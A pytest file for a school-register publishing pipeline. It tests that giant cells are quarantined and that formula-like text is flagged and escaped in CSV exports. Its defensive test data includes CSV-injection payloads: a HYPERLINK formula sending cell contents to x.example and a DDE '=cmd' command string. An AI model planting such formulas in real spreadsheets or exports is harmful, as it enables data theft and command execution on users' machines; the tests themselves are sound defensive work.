"""Hostile cells in the real school register: a giant cell is quarantined with its length (and
kept short in the quarantine); text cells a spreadsheet would run as formulas are published as
delivered, listed as warnings, and written to the CSV file (and the quarantine's CSV export)
with a leading single quote — numbers, also negative ones, untouched."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

from odp.errors import ConfigError
from odp.publish.formulas import neutralise, starts_formula
from odp.publish.resources import write_csv
from odp.validate import QuarantineStore, validate_batch
from odp.validate.settings import settings
from tests.unit.test_validate import NOW, SCHOOLS, dataset, row_of, school_records, schools  # noqa: F401

FORMULAS = ["=1+2", '=HYPERLINK("http://x.example/?d="&A1;"click")', "@SUM(A1:A9)", "+1+2",
            "-2+3", "\tTabulator", "\r=1"]


def test_a_giant_cell_is_quarantined_with_its_length_and_kept_short(schools, tmp_path):  # noqa: F811
    target = row_of(schools, school_id="2040")[0]
    schools.loc[target - 1, "name"] = "Schule " + "x" * 2_000_000
    store = QuarantineStore(tmp_path)
    result = validate_batch(schools, dataset(SCHOOLS), "r1", store, now=NOW)
    found = result.findings[result.findings["rule"] == "max_cell_chars"]
    assert found[["row", "field", "severity"]].values.tolist() == [[target, "name", "error"]]
    reason = found["reason"].iloc[0]
    assert reason.startswith("'Schule xxx") and reason.endswith(
        "is 2000007 characters long, more than max_cell_chars (1000000)")
    assert result.rejected_rows == 1 and len(result.valid) == len(schools) - 1
    kept = store.list(SCHOOLS)
    assert len(kept["value"].iloc[0]) < 300
    assert len(json.loads(kept["raw"].iloc[0])["name"]) < 300


def test_max_cell_chars_is_set_per_dataset_and_checked(schools):  # noqa: F811
    short = dataset(SCHOOLS, max_cell_chars=20)
    result = validate_batch(schools, short, "r1", now=NOW)
    long_rows = schools.astype("string").apply(lambda c: c.str.len() > 20).any(axis=1)
    assert result.rejected_rows == int(long_rows.sum()) > 0
    assert set(result.findings["rule"]) == {"max_cell_chars"}
    with pytest.raises(ConfigError, match=r"\[validate\] max_cell_chars: must be a whole number "
                       r"≥ 1, got 0"):
        settings(dataset(SCHOOLS, max_cell_chars=0))


def test_formula_cells_are_published_as_delivered_and_listed_as_warnings(schools):  # noqa: F811
    rows = list(range(1, len(FORMULAS) + 1))
    for row, text in zip(rows, FORMULAS, strict=True):
        schools.loc[row - 1, "name"] = text
    result = validate_batch(schools, dataset(SCHOOLS), "r1", now=NOW)
    warned = result.findings[result.findings["rule"] == "formula"]
    assert warned[["row", "field", "severity"]].values.tolist() == [
        [row, "name", "warning"] for row in rows]
    assert warned["reason"].iloc[0] == ("'=1+2' would run as a spreadsheet formula: the CSV file "
                                        "writes it with a leading ' (the DataStore keeps it)")
    assert result.rejected_rows == 0
    assert result.valid["name"].iloc[: len(FORMULAS)].tolist() == FORMULAS  # as delivered


def test_the_csv_file_escapes_text_formulas_and_leaves_numbers_alone(tmp_path):
    table = pd.DataFrame({
        "name": pd.array([*FORMULAS, "Plain", None, "'=already quoted"], dtype="string"),
        "level": pd.array([-1.5, 2.0, -3.0, 4.0, -5.0, 6.0, 7.0, -8.0, None, 0.0],
                          dtype="Float64"),
        "count": pd.array([-1, 2, 3, 4, 5, 6, 7, 8, 9, -10], dtype="Int64"),
        "at": pd.to_datetime(["2024-11-20T12:00:00Z"] * 10, utc=True),
    })
    path = write_csv(table, list(table.columns), tmp_path / "t.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    # The carriage return: a line feed in a quoted cell, never a bare CR ending the row early.
    written = [*("'" + f for f in FORMULAS[:-1]), "'\n=1", "Plain", "", "'=already quoted"]
    assert [r["name"] for r in rows] == written
    assert b"\r" not in path.read_bytes()
    # Numbers as numbers, whatever the writer's float format: no quote before a minus.
    assert [float(r["level"]) for r in rows[:3]] == [-1.5, 2.0, -3.0]
    assert rows[0]["level"] == "-1.5" and rows[9]["count"] == "-10"
    assert not any(r["level"].startswith("'") or r["count"].startswith("'") for r in rows)
    assert rows[0]["at"] == "2024-11-20T12:00:00Z"
    assert table["name"].iloc[0] == "=1+2"  # the frame itself (the DataStore's rows) unchanged


def test_object_columns_of_text_and_of_mixed_values_are_escaped_dates_are_not():
    import datetime as dt

    frame = pd.DataFrame({
        "text": pd.Series(["=A1", "ok", None], dtype=object),
        "mixed": pd.Series(["@x", 5, -3.0], dtype=object),
        "day": pd.Series([dt.date(2024, 1, 1), None, dt.date(2024, 1, 2)], dtype=object),
    })
    out = neutralise(frame)
    assert out["text"].tolist()[:2] == ["'=A1", "ok"] and pd.isna(out["text"].iloc[2])
    assert out["mixed"].iloc[0] == "'@x"
    assert out["day"].tolist() == frame["day"].tolist()
    assert starts_formula(pd.Series(["-", "a-", " =x"], dtype="string")).tolist() == [
        True, False, False]


def test_the_quarantine_csv_export_escapes_formulas(schools, tmp_path):  # noqa: F811
    target = row_of(schools, school_id="2040")[0]
    schools.loc[target - 1, "longitude"] = "=cmd|' /C calc'!A0"
    store = QuarantineStore(tmp_path)
    validate_batch(schools, dataset(SCHOOLS), "r1", store, now=NOW)
    out = tmp_path / "q.csv"
    store.export_csv(SCHOOLS, out)
    with out.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["value"] == "'=cmd|' /C calc'!A0"
